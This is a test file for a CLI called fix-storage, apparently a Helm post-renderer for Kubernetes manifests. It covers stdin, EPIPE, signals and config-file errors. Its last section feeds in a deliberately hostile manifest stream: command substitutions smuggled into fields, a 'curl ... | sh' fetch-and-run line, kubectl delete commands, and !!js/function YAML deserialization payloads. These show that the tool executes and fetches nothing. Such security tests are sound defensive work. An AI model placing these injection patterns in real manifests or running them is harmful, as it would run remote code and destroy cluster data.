/** The CLI as a process: closed pipes, signals, bad config files, and input it must never act on. */
import { spawn, spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BIN, ROOT, runBin } from "../helpers.js";
import { CHART_LABEL_LINE, CONFIGMAP, replaceOnce, requireBundle, runBinAsync, STATEFULSET, tempDir } from "./support.js";

beforeAll(requireBundle);

const FIXED = CONFIGMAP + replaceOnce(STATEFULSET, CHART_LABEL_LINE, "");

function exited(child: ReturnType<typeof spawn>): Promise<{ code: number | null; signal: NodeJS.Signals | null }> {
  return new Promise((resolve) => child.on("close", (code, signal) => resolve({ code, signal })));
}

function delay(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

describe("stdin that cannot be read", () => {
  it("a directory given as stdin (fix-storage < dir): exit 2, one line saying so", () => {
    const run = spawnSync("sh", ["-c", `"${process.execPath}" "${BIN}" < "${tempDir()}"`], { encoding: "utf8" });
    expect({ code: run.status, stdout: run.stdout, stderr: run.stderr }).toEqual({ code: 2, stdout: "", stderr: "fix-storage: cannot read stdin: it is a directory\n" });
  });
});

describe("EPIPE: a reader that goes away", () => {
  // Large enough that stdout needs many writes: 20,000 untouched ConfigMaps after a StatefulSet to fix.
  const BIG = STATEFULSET + CONFIGMAP.repeat(20_000);

  it("closed after the first chunk: quiet exit, no stack trace", async () => {
    const child = spawn(process.execPath, [BIN, "--disable", "claim-ownership"], { stdio: ["pipe", "pipe", "pipe"], cwd: ROOT });
    let stderr = "";
    child.stderr.on("data", (chunk) => {
      stderr += chunk;
    });
    let first = "";
    child.stdout.once("data", (chunk: Buffer) => {
      first = chunk.toString("utf8");
      child.stdout.destroy();
    });
    child.stdin.end(BIG);
    const { code, signal } = await exited(child);
    expect({ code, signal, stderr }).toEqual({ code: 0, signal: null, stderr: "" });
    // What did get through is the start of the correct output.
    expect(replaceOnce(STATEFULSET, CHART_LABEL_LINE, "").startsWith(first.slice(0, 200))).toBe(true);
  });

  it("closed before anything is written: quiet exit", async () => {
    const child = spawn(process.execPath, [BIN], { stdio: ["pipe", "pipe", "pipe"], cwd: ROOT });
    let stderr = "";
    child.stderr.on("data", (chunk) => {
      stderr += chunk;
    });
    child.stdout.destroy();
    child.stdin.end(BIG);
    const { code, signal } = await exited(child);
    expect({ code, signal, stderr }).toEqual({ code: 0, signal: null, stderr: "" });
  });

  it("in a shell pipeline into head: fix-storage's own status is 0 and it says nothing", () => {
    const dir = tempDir();
    const input = join(dir, "big.yaml");
    writeFileSync(input, BIG);
    const script = `"${process.execPath}" "${BIN}" < "${input}" 2>"${dir}/err" | head -c 100 >/dev/null; echo "\${PIPESTATUS[0]}"`;
    const run = spawn("bash", ["-c", script], { stdio: ["ignore", "pipe", "pipe"] });
    let out = "";
    run.stdout.on("data", (chunk) => {
      out += chunk;
    });
    return exited(run).then(() => {
      expect(out.trim()).toBe("0");
      expect(readFileSync(join(dir, "err"), "utf8")).toBe("");
    });
  });

  it("an error with stdout closed is still exit 2 with the message on stderr", async () => {
    const child = spawn(process.execPath, [BIN], { stdio: ["pipe", "pipe", "pipe"], cwd: ROOT });
    let stderr = "";
    child.stderr.on("data", (chunk) => {
      stderr += chunk;
    });
    child.stdout.destroy();
    child.stdin.end("  \n");
    const { code } = await exited(child);
    expect({ code, stderr }).toEqual({ code: 2, stderr: "fix-storage: stdin is empty: there are no manifests to post-render\n" });
  });
});

describe("signals mid-read", () => {
  for (const signal of ["SIGTERM", "SIGINT"] as const) {
    it(`${signal} while stdin is still open: the process ends, nothing on stdout`, async () => {
      const child = spawn(process.execPath, [BIN], { stdio: ["pipe", "pipe", "pipe"], cwd: ROOT });
      let stdout = "";
      child.stdout.on("data", (chunk) => {
        stdout += chunk;
      });
      child.stdin.on("error", () => undefined);
      // Half a stream: a complete ConfigMap and the start of a StatefulSet; stdin stays open.
      child.stdin.write(CONFIGMAP + STATEFULSET.slice(0, 200));
      await delay(500);
      expect(child.exitCode).toBeNull();
      child.kill(signal);
      const ended = await Promise.race([exited(child), delay(10_000).then(() => "still running" as const)]);
      expect(ended).not.toBe("still running");
      expect(stdout).toBe("");
      expect(ended).not.toEqual({ code: 0, signal: null });
    });
  }
});

describe("config files: missing, unreadable or invalid means exit 2, one clear line, nothing on stdout", () => {
  const dir = tempDir();
  const file = (name: string, text: string) => {
    const path = join(dir, name);
    writeFileSync(path, text);
    return path;
  };

  function expectRefused(args: string[], stderr: string | RegExp, env: Record<string, string> = {}): void {
    const run = runBin(args, CONFIGMAP + STATEFULSET, env);
    expect({ code: run.code, stdout: run.stdout }).toEqual({ code: 2, stdout: "" });
    if (typeof stderr === "string") expect(run.stderr).toBe(`${stderr}\n`);
    else expect(run.stderr).toMatch(stderr);
  }

  it("missing, by flag and by FIX_STORAGE_CONFIG", () => {
    const missing = join(dir, "nope", "c.yaml");
    expectRefused(["--config", missing], `fix-storage: config file ${missing} does not exist`);
    expectRefused([], `fix-storage: config file ${missing} does not exist`, { FIX_STORAGE_CONFIG: missing });
    expectRefused([], `fix-storage: config file ${missing} does not exist`, { ARGOCD_ENV_FIX_STORAGE_CONFIG: missing });
  });

  it("a directory", () => {
    const sub = join(dir, "a-directory");
    mkdirSync(sub, { recursive: true });
    expectRefused(["--config", sub], `fix-storage: config file ${sub} is a directory`);
  });

  it.skipIf(process.getuid?.() === 0)("without read permission (not testable as root)", () => {
    const locked = file("locked.yaml", "rules: {}\n");
    chmodSync(locked, 0o000);
    expectRefused(["--config", locked], `fix-storage: cannot read config file ${locked}: permission denied`);
  });

  it("invalid YAML: the message names the file, line and column", () => {
    const broken = file("broken.yaml", "rules:\n  claim-retention: [\n");
    expectRefused(["--config", broken], /^fix-storage: [^\n]*invalid config [^\n]*broken\.yaml[^\n]*: Flow sequence in block collection must be sufficiently indented and end with a \]\n$/);
    expectRefused(["--config", broken], /line 3, column 1\b/);
    const duplicate = file("duplicate.yaml", "rules: {}\nrules: {}\n");
    expectRefused(["--config", duplicate], /^fix-storage: [^\n]*invalid config [^\n]*duplicate\.yaml[^\n]*: Map keys must be unique\n$/);
    expectRefused(["--config", duplicate], /line 2, column 1\b/);
  });

  it("valid YAML of the wrong shape: the key path is named", () => {
    expectRefused(["--config", file("list.yaml", "- a\n- b\n")], `fix-storage: invalid config ${join(dir, "list.yaml")}: expected a map, got a list`);
    expectRefused(
      ["--config", file("unknown.yaml", "rules:\n  claim-retention:\n    whenDeletd: Delete\n")],
      /^fix-storage: invalid config .*unknown\.yaml line 3, column 5: rules\.claim-retention: unknown key "whenDeletd": did you mean "whenDeleted"\? \(known keys: [^)]*whenDeleted[^)]*\)\n$/,
    );
    expectRefused(
      ["--config", file("missing.yaml", "rules:\n  volume-name:\n    bindings:\n      - {statefulSet: db, volumeName: pv}\n")],
      /^fix-storage: invalid config .*missing\.yaml line 4, column 9: rules\.volume-name\.bindings\.0: matches none of the forms .*: rules\.volume-name\.bindings\.0\.template: expected a string, got nothing \(the key is missing\)\n$/,
    );
    expectRefused(
      ["--config", file("two.yaml", "rules: {}\n---\nrules: {}\n")],
      /^fix-storage: invalid config .*two\.yaml line 2, column 1: a config is one YAML document, and this file holds more \(remove the --- that starts another\)\n$/,
    );
    expectRefused(
      ["--config", file("type.yaml", "rules:\n  idempotent-cleanup:\n    retries: many\n")],
      /^fix-storage: invalid config .*type\.yaml line 3, column 5: rules\.idempotent-cleanup\.retries: expected a number, got the string "many"\n$/,
    );
  });

  it("an empty config file is no config: the stream is fixed", () => {
    const run = runBin(["--config", file("empty.yaml", ""), "--disable", "claim-ownership"], CONFIGMAP + STATEFULSET);
    expect({ code: run.code, stdout: run.stdout, stderr: run.stderr }).toEqual({ code: 0, stdout: FIXED, stderr: "" });
  });

  it("a report that cannot be written fails before anything reaches stdout", () => {
    const sub = join(dir, "report-dir");
    mkdirSync(sub, { recursive: true });
    const run = runBin(["--report", sub], CONFIGMAP + STATEFULSET);
    expect({ code: run.code, stdout: run.stdout }).toEqual({ code: 2, stdout: "" });
    expect(run.stderr).toMatch(/^fix-storage: cannot write report .*report-dir: is a directory\n$/);
  });

  it("an unwritable FIX_STORAGE_LOG is an error: it is set because stderr is lost, so silence would hide everything", () => {
    const log = join(dir, "no", "such", "dir", "log.txt");
    const run = runBin(["--disable", "claim-ownership"], CONFIGMAP + STATEFULSET, { FIX_STORAGE_LOG: log });
    expect({ code: run.code, stdout: run.stdout, stderr: run.stderr }).toEqual({
      code: 2,
      stdout: "",
      stderr: `fix-storage: cannot write FIX_STORAGE_LOG ${log}: ENOENT (unset it, or point it at a writable file)\n`,
    });
  });
});

describe("the tool never executes, evaluates or fetches anything its input names", () => {
  const dir = tempDir();
  const markers = join(dir, "markers");
  const fakeBin = join(dir, "bin");
  let server: Server;
  let port = 0;
  const requests: string[] = [];

  beforeAll(async () => {
    mkdirSync(markers, { recursive: true });
    mkdirSync(fakeBin, { recursive: true });
    // Every command a stream mentions, and a few more, leave a marker if anything runs them.
    for (const command of ["kubectl", "sh", "bash", "dash", "curl", "wget", "helm", "git", "touch", "node", "env", "sleep", "echo"]) {
      const path = join(fakeBin, command);
      writeFileSync(path, `#!/bin/sh\n: > "${markers}/${command}"\n`);
      chmodSync(path, 0o755);
    }
    server = createServer((request, response) => {
      requests.push(`${request.method} ${request.url}`);
      response.end("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: fetched\n");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as AddressInfo).port;
  });

  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  function hostileStream(): string {
    const url = `http://127.0.0.1:${port}`;
    const touch = (name: string) => `touch ${markers}/${name}`;
    return [
      "---",
      "# Source: evil/templates/cleanup.yaml",
      "apiVersion: batch/v1",
      "kind: Job",
      "metadata:",
      "  name: cleanup",
      "  namespace: apps",
      "  annotations:",
      "    helm.sh/hook: post-delete",
      `    docs: ${url}/annotation?$(${touch("annotation")})`,
      "spec:",
      "  template:",
      "    spec:",
      "      restartPolicy: Never",
      "      containers:",
      "        - name: script",
      `          image: 127.0.0.1:${port}/image:latest`,
      `          command: [sh, -c, "${touch("script")}; $(${touch("subst")}); \`${touch("backtick")}\`; curl -fsS ${url}/script | sh; kubectl delete cm app-config"]`,
      "        - name: exec",
      "          image: bitnami/kubectl:1.30",
      `          command: [kubectl, delete, -f, "${url}/exec.yaml", "$(${touch("exec")})"]`,
      "        - name: apply",
      "          image: bitnami/kubectl:1.30",
      "          args:",
      "            - bash",
      "            - -c",
      "            - |",
      `              kubectl apply -f ${url}/apply.yaml`,
      `              kubectl delete secret x; ${touch("block")}`,
      "---",
      "apiVersion: v1",
      "kind: ConfigMap",
      "metadata:",
      "  name: values",
      "data:",
      `  remote: ${url}/configmap`,
      `  include: "{{ include ${JSON.stringify(`${url}/tpl`)} . }}"`,
      `  js: !!js/function "function () { require('fs').writeFileSync('${markers}/js', '') }"`,
      "---",
      "# Source: evil/templates/sts.yaml",
      "apiVersion: apps/v1",
      "kind: StatefulSet",
      "metadata:",
      "  name: db",
      "  namespace: apps",
      "  annotations:",
      `    js: !!js/function "function () { require('fs').writeFileSync('${markers}/js-sts', '') }"`,
      `    schema: ${url}/schema.json`,
      "spec:",
      "  serviceName: db",
      "  selector:",
      "    matchLabels: {app: db}",
      "  template:",
      "    metadata:",
      "      labels: {app: db}",
      "    spec:",
      `      containers: [{name: db, image: "${url}/db", command: [sh, -c, "${touch("sts")}"]}]`,
      "  volumeClaimTemplates:",
      "    - metadata:",
      "        name: data",
      `        labels: {helm.sh/chart: db-1.0.0, source: "${url.replace("http://", "")}"}`,
      "      spec:",
      "        accessModes: [ReadWriteOnce]",
      `        volumeName: "$(${touch("volume")})"`,
      "",
    ].join("\n");
  }

  async function runHostile(args: string[]) {
    const env = { PATH: `${fakeBin}:${process.env.PATH ?? ""}`, FIX_STORAGE_KUBECTL: join(fakeBin, "kubectl") };
    return runBinAsync(args, hostileStream(), { env, timeoutMs: 30_000 });
  }

  it("fix, with every rule on and --explain: the scripts are edited as text, nothing runs, nothing is fetched", async () => {
    const run = await runHostile(["--enable", "claim-retention", "--release-name", "evil", "--explain"]);
    expect(run.code).toBe(0);
    const output = run.stdout.toString("utf8");
    expect(output).toContain("kubectl delete --ignore-not-found cm app-config");
    expect(output).toContain(`"$(touch ${markers}/exec)", --ignore-not-found]`);
    expect(output).not.toContain("helm.sh/chart");
    expect(readdirSync(markers)).toEqual([]);
    expect(requests).toEqual([]);
  });

  it("check, diff, flux-patches and --report: nothing runs, nothing is fetched", async () => {
    const report = join(dir, "report.json");
    for (const args of [["check"], ["diff"], ["flux-patches"], ["--report", report]]) {
      const run = await runHostile(args);
      expect(run.code === 0 || run.code === 1, `${args.join(" ")}: exit ${run.code}: ${run.stderr}`).toBe(true);
    }
    expect(existsSync(report)).toBe(true);
    expect(readdirSync(markers)).toEqual([]);
    expect(requests).toEqual([]);
  });
});
